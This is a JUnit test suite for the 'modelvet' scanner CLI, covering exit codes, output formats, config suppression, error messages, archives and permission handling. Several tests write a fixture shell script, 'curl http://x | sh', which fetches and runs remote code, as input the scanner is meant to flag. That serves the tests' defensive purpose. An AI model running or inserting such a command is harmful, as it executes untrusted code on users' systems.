package io.modelvet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScanCommandTest {
  @TempDir Path dir;

  /** Runs the CLI in-process and returns exit code and stdout. */
  static Run run(String... args) {
    PrintStream out = System.out;
    PrintStream err = System.err;
    ByteArrayOutputStream o = new ByteArrayOutputStream();
    ByteArrayOutputStream e = new ByteArrayOutputStream();
    try {
      System.setOut(new PrintStream(o, true, StandardCharsets.UTF_8));
      System.setErr(new PrintStream(e, true, StandardCharsets.UTF_8));
      int code = Main.run(args);
      return new Run(code, o.toString(StandardCharsets.UTF_8), e.toString(StandardCharsets.UTF_8));
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
  }

  record Run(int code, String out, String err) {}

  @Test
  void cleanFolderPassesWithExitZero() throws IOException {
    Files.writeString(dir.resolve("README.md"), "# a model card\n");
    Run r = run("scan", dir.toString());
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("PASS");
  }

  @Test
  void unrecognisedContentIsInconclusiveExitThree() throws IOException {
    Files.write(dir.resolve("weights.bin"), new byte[] {0, 1, 2, (byte) 0xfe, 0x10});
    Run r = run("scan", "--format", "json", dir.toString());
    assertThat(r.code()).isEqualTo(3);
    JsonNode n = new ObjectMapper().readTree(r.out());
    assertThat(n.at("/files/0/verdict").asText()).isEqualTo("inconclusive");
    assertThat(n.at("/summary/exitCode").asInt()).isEqualTo(3);
  }

  @Test
  void findingsAtOrAboveThresholdFailWithExitOne() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\ncurl http://x | sh\n");
    assertThat(run("scan", dir.toString()).code()).isEqualTo(1);
    assertThat(run("scan", "--fail-on", "critical", dir.toString()).code()).isZero();
  }

  @Test
  void configNextToTheScannedFolderSuppressesVisibly() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Files.writeString(dir.resolve(".modelvet.yaml"), "suppress:\n  - rule: general.embedded-executable\n    paths: ['*.sh']\n    reason: build helper script\n");
    Run r = run("scan", dir.toString());
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("SUPPRESSED").contains("build helper script");
  }

  @Test
  void writesSarifToAFile() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Path out = dir.resolve("out.sarif");
    Run r = run("scan", "--format", "sarif", "--output", out.toString(), dir.resolve("run.sh").toString());
    assertThat(r.code()).isEqualTo(1);
    JsonNode n = new ObjectMapper().readTree(out.toFile());
    assertThat(n.get("version").asText()).isEqualTo("2.1.0");
    assertThat(n.at("/runs/0/results/0/ruleId").asText()).isEqualTo("general.embedded-executable");
  }

  @Test
  void usageAndIoErrorsExitTwo() {
    assertThat(run("scan").code()).isEqualTo(2);
    assertThat(run("scan", "--format", "yaml", dir.toString()).code()).isEqualTo(2);
    assertThat(run("scan", "--fail-on", "severe", dir.toString()).code()).isEqualTo(2);
    Run missing = run("scan", dir.resolve("nope").toString());
    assertThat(missing.code()).isEqualTo(2);
    assertThat(missing.err()).contains("no such file");
  }

  @Test
  void wrongOptionValuesListTheAllowedOnesWithoutJavaInternals() {
    Run failOn = run("scan", "--fail-on", "bogus", dir.toString());
    assertThat(failOn.code()).isEqualTo(2);
    assertThat(failOn.err()).contains("--fail-on").contains("INFO, LOW, MEDIUM, HIGH, CRITICAL").contains("bogus").doesNotContain("java.").doesNotContain("Exception");
    Run format = run("scan", "--format", "yaml", dir.toString());
    assertThat(format.err()).contains("expected one of text, json, sarif but was 'yaml'").doesNotContain("java.");
    Run help = run("scan", "--help");
    assertThat(help.out().replaceAll("\\s+", " ")).contains("INFO, LOW, MEDIUM, HIGH, CRITICAL").contains("text, json, sarif");
    assertThat(run("scan", "--fail-on", "high", dir.toString()).err()).doesNotContain("Invalid value");
  }

  @Test
  void bareModelvetPrintsUsageAndExitsTwo() {
    Run bare = run();
    assertThat(bare.code()).isEqualTo(2);
    assertThat(bare.err()).contains("Usage: modelvet");
    assertThat(run("--help").code()).isZero();
  }

  @Test
  void helpSummariesAreWholeSentences() {
    String help = run("--help").out();
    assertThat(help).contains("(Sigstore bundle, DSSE envelope, in-toto statement");
    for (String cmd : new String[] {"scan", "test", "sign", "verify", "bom"}) {
      String summary = help.substring(help.indexOf("\n  " + cmd + " ") + 1).split("\n  [a-z]+ ")[0].replaceAll("\\s+", " ").trim();
      assertThat(summary).as(cmd).endsWith(".");
    }
  }

  @Test
  void aConfigTypoNamesFileLineAndNearestKey() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Path cfg = dir.resolve(".modelvet.yaml");
    Files.writeString(cfg, "alow:\n  - module: a\n    name: b\n    reason: c\n");
    Run r = run("scan", dir.toString());
    assertThat(r.code()).isEqualTo(2);
    assertThat(r.err()).contains(cfg + ":1:").contains("unknown key 'alow'").contains("did you mean 'allow'?")
        .doesNotContain("io.modelvet").doesNotContain("Unrecognized").doesNotContain("class");
    Files.writeString(cfg, "suppress: [\n");
    assertThat(run("scan", dir.toString()).err()).contains(cfg.toString()).contains("YAML syntax error");
  }

  @Test
  void anEmptyFolderOrEverythingExcludedIsNoFilesToScanExitThree() throws IOException {
    Run empty = run("scan", dir.toString());
    assertThat(empty.code()).isEqualTo(3);
    assertThat(empty.out()).contains("No files to scan").doesNotContain("PASS");
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\ncurl http://x | sh\n");
    Run excluded = run("scan", "--exclude", "*.sh", dir.toString());
    assertThat(excluded.code()).isEqualTo(3);
    assertThat(excluded.out()).contains("No files to scan");
    Files.writeString(dir.resolve("notes.md"), "# card\n");
    Run included = run("scan", "--include", "*.md", "--format", "json", dir.toString());
    assertThat(included.code()).isZero();
    assertThat(included.out()).contains("notes.md").doesNotContain("run.sh");
  }

  @Test
  void aSymlinkedFolderOnTheCommandLineIsScanned(@TempDir Path elsewhere) throws IOException {
    Files.writeString(elsewhere.resolve("run.sh"), "#!/bin/sh\ncurl http://x | sh\n");
    Path link = Files.createSymbolicLink(dir.resolve("link"), elsewhere);
    Run r = run("scan", link.toString());
    assertThat(r.code()).isEqualTo(1);
    assertThat(r.out()).contains(link + "/run.sh").contains("link: " + link + "/run.sh -> " + elsewhere.toRealPath().resolve("run.sh"));
    Files.delete(link);
  }

  @Test
  void theConfigIsFoundAboveTheScannedFolderAndIsNotScanned() throws IOException {
    Files.createDirectories(dir.resolve(".git"));
    Files.writeString(dir.resolve(".modelvet.yaml"), "suppress:\n  - rule: general.embedded-executable\n    paths: ['*.sh']\n    reason: build helper script\n");
    Path models = Files.createDirectories(dir.resolve("models"));
    Files.writeString(models.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Run r = run("scan", models.toString());
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("build helper script");
    Run whole = run("scan", dir.toString());
    assertThat(whole.out()).contains("Scanned 1 file in").doesNotContain(".modelvet.yaml");
    Path other = dir.resolve("other.yaml");
    Files.writeString(other, "suppress: []\n");
    assertThat(run("scan", "--config", other.toString(), models.toString()).code()).isEqualTo(1);
  }

  @Test
  void filesAndArchiveMembersAreCountedApart() throws IOException {
    Path zip = dir.resolve("bundle.zip");
    try (java.util.zip.ZipOutputStream z = new java.util.zip.ZipOutputStream(Files.newOutputStream(zip))) {
      for (String n : new String[] {"a.md", "b.md"}) {
        z.putNextEntry(new java.util.zip.ZipEntry(n));
        z.write("# notes\n".getBytes(StandardCharsets.UTF_8));
        z.closeEntry();
      }
    }
    Run r = run("scan", zip.toString());
    assertThat(r.out()).contains("Scanned 1 file (2 archive members) in");
    JsonNode n = json(run("scan", "--format", "json", zip.toString()).out());
    assertThat(n.at("/summary/scannedFiles").asInt()).isEqualTo(1);
    assertThat(n.at("/summary/archiveMembers").asInt()).isEqualTo(2);
  }

  @Test
  void standardInputIsScanned() throws IOException {
    java.io.InputStream saved = System.in;
    try {
      System.setIn(new java.io.ByteArrayInputStream("#!/bin/sh\ncurl http://x | sh\n".getBytes(StandardCharsets.UTF_8)));
      Run r = run("scan", "--format", "json", "-");
      assertThat(r.code()).isEqualTo(1);
      JsonNode n = json(r.out());
      assertThat(n.at("/files/0/path").asText()).isEqualTo("<stdin>");
      assertThat(n.at("/files/0/findings/0/ruleId").asText()).isEqualTo("general.embedded-executable");
      assertThat(n.at("/files/0/findings/0/severity").asText()).isEqualTo("HIGH");
      System.setIn(new java.io.ByteArrayInputStream(new byte[0]));
      assertThat(run("scan", "-", dir.toString()).code()).isEqualTo(2);
    } finally {
      System.setIn(saved);
    }
  }

  /**
   * An unreadable subfolder is reported as inconclusive and the scan goes on. Root reads every
   * folder, so as root the CLI runs in a child JVM as the unprivileged user nobody (setpriv).
   */
  @Test
  void anUnreadableSubfolderIsInconclusiveAndTheScanGoesOn() throws Exception {
    Path tree = dir.resolve("tree");
    Files.createDirectories(tree.resolve("locked"));
    Files.writeString(tree.resolve("run.sh"), "#!/bin/sh\ncurl http://x | sh\n");
    Files.writeString(tree.resolve("locked/hidden.sh"), "#!/bin/sh\necho\n");
    String json;
    if (!System.getProperty("user.name").equals("root")) {
      Files.setPosixFilePermissions(tree.resolve("locked"), java.nio.file.attribute.PosixFilePermissions.fromString("---------"));
      try {
        json = run("scan", "--format", "json", tree.toString()).out();
      } finally {
        Files.setPosixFilePermissions(tree.resolve("locked"), java.nio.file.attribute.PosixFilePermissions.fromString("rwx------"));
      }
    } else {
      json = Unprivileged.runCli(dir, "scan", "--format", "json", tree.toString());
    }
    JsonNode n = json(json);
    assertThat(n.at("/files").findValuesAsText("path")).contains(tree + "/run.sh", tree + "/locked");
    for (JsonNode f : n.get("files")) {
      if (f.get("path").asText().equals(tree + "/locked")) {
        assertThat(f.get("verdict").asText()).isEqualTo("inconclusive");
        assertThat(f.get("inconclusiveReason").asText()).contains("folder could not be read (permission denied)");
      }
      if (f.get("path").asText().equals(tree + "/run.sh")) assertThat(f.get("verdict").asText()).isEqualTo("findings");
    }
    assertThat(n.at("/summary/exitCode").asInt()).isEqualTo(1);
  }

  private static JsonNode json(String s) throws IOException {
    return new ObjectMapper().readTree(s);
  }
}
